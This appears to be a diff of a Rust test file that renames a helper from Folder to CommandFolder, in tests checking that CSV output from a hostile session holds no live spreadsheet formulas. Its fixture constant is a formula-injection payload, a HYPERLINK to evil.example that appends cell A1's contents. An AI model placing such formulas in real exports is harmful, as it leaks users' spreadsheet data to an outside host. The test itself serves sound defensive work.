@@ -2,7 +2,7 @@
 
 use crate::common;
 
-use common::{Folder, jsonl};
+use common::{CommandFolder, jsonl};
 use serde_json::{Value, json};
 
 const SESSION: &str = "=HYPERLINK(\"http://evil.example/?\"&A1,\"look\")";
@@ -41,7 +41,7 @@ fn is_harmless(cell: &str) -> bool {
 
 #[test]
 fn csv_cells_of_a_hostile_session_are_not_formulas() {
-    let here = Folder::new();
+    let here = CommandFolder::new();
     here.write("hostile.jsonl", hostile());
     let strategies = "--strategy reference --strategy codex --strategy keep-nothing";
     here.run(&format!("run hostile.jsonl {strategies} --transport direct --out out")).ok();
@@ -70,7 +70,7 @@ fn csv_cells_of_a_hostile_session_are_not_formulas() {
 
 #[test]
 fn results_with_hostile_ids_work_with_every_command() {
-    let here = Folder::new();
+    let here = CommandFolder::new();
     here.write("hostile.jsonl", hostile());
     let run = "run hostile.jsonl --strategy codex --strategy none --transport direct --out";
     here.run(&format!("{run} out")).ok();
